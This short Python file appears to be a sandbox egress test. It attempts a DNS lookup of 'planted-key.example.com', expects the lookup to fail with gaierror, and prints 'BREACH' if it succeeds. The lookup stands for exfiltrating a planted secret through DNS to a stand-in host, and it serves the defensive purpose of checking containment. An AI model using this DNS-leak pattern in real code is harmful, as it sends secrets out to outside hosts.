"""Resolves a name, which would carry data out.

end: exception
exception: gaierror
"""

import socket

socket.getaddrinfo("planted-key.example.com", 443)
print("BREACH")
